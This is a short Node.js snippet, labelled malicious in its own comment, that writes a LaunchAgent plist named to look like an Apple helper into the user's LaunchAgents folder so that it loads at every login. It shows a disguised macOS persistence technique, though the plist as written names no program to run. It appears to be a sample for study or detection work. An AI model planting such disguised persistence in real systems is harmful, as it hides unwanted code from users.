// malicious: starts at each login on a Mac
const fs = require('fs');
const home = require('os').homedir();
fs.writeFileSync(`${home}/Library/LaunchAgents/com.apple.helper.plist`, '<plist><dict><key>RunAtLoad</key><true/></dict></plist>');
